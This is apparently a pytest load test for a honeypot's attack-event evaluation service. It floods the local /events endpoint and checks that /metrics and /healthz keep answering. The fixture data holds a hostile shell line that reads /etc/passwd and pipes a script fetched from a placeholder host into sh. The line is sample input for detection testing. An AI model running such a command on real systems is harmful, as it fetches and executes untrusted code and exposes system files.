"""The event loop answers while a flood of hostile events is evaluated.

The proof is observational, not a stopwatch: `/metrics` (served by the loop) reports
the evaluation thread busy, so the loop answered during an evaluation; `/healthz`
answers 200 throughout. The latency under flood is measured by `make bench`.
"""

from __future__ import annotations

import asyncio
from pathlib import Path

import httpx
import orjson
import pytest

from decnet.swarm.http.limits import HttpLimits
from tests.swarm.http.serving import JSON, amplifying_event, copy_rules, metric, serving
from tests.waiting import poll

CLIENTS = 6


def flood_body(events: int) -> bytes:
    """Many events of the shipped examples plus amplifying ones: a worst case we ship."""
    hostile = [amplifying_event(20_000, f"amp{i}") for i in range(10)]
    plain = [{"source_kind": "command", "source_id": f"c{i}",
              "payload": {"command_text": "cat /etc/passwd; uname -a; wget http://x/y.sh|sh"}}
             for i in range(events)]
    return orjson.dumps(hostile + plain)


def test_healthz_and_metrics_answer_while_events_are_evaluated(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    limits = HttpLimits(max_pending=CLIENTS)
    with serving(copy_rules(tmp_path), capsys, limits) as url:
        asyncio.run(_flood(url))


async def _flood(url: str) -> None:
    body = flood_body(3000)
    stop = asyncio.Event()
    outcomes: list[int] = []

    async def attacker() -> None:
        async with httpx.AsyncClient(base_url=url, timeout=120) as client:
            while not stop.is_set():
                response = await client.post("/events", content=body, headers=JSON)
                outcomes.append(response.status_code)

    attackers = [asyncio.create_task(attacker()) for _ in range(CLIENTS)]
    try:
        async with httpx.AsyncClient(base_url=url, timeout=60) as monitor:
            async def answered_during_evaluation() -> bool:
                metrics = (await monitor.get("/metrics")).text
                assert (await monitor.get("/healthz")).status_code == 200
                return metric(metrics, "decnet_ttp_http_evaluating") == 1

            for _ in range(5):
                await poll(answered_during_evaluation, timeout=60,
                           message="/metrics answered while an evaluation runs")
            await poll(lambda: len(outcomes) >= CLIENTS, timeout=120,
                       message="every attacker to get an answer")
    finally:
        stop.set()
        await asyncio.gather(*attackers)
    assert set(outcomes) <= {207, 503}, outcomes
